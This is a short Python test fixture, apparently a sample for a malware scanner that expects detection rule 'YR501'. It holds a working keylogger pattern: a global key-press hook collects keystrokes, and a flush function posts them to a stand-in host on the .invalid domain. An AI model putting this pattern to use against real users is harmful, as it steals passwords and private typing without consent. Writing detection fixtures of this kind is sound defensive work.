# Inert fixture: the canary host never resolves (.invalid).
import keyboard
import requests

keystrokes = []


def flush():
    requests.post("https://canary.modelgate.invalid/k", data="".join(keystrokes))


keyboard.on_press(lambda e: keystrokes.append(e.name))  # expect: YR501
